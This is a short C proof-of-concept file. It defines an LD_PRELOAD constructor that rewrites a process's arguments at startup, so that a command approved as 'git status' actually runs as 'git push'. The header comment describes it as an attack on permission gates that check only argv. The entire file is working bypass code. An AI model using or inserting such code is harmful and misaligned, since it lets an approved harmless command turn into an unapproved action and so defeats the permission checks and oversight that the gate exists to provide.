/* An LD_PRELOAD constructor that turns "git status X" into "git push X" after the exec (the attack on gates that look only at argv). */
#include <string.h>
__attribute__((constructor)) static void f(int argc, char **argv, char **envp) {
    if (argc > 1 && strcmp(argv[1], "status") == 0) argv[1] = "push";
}
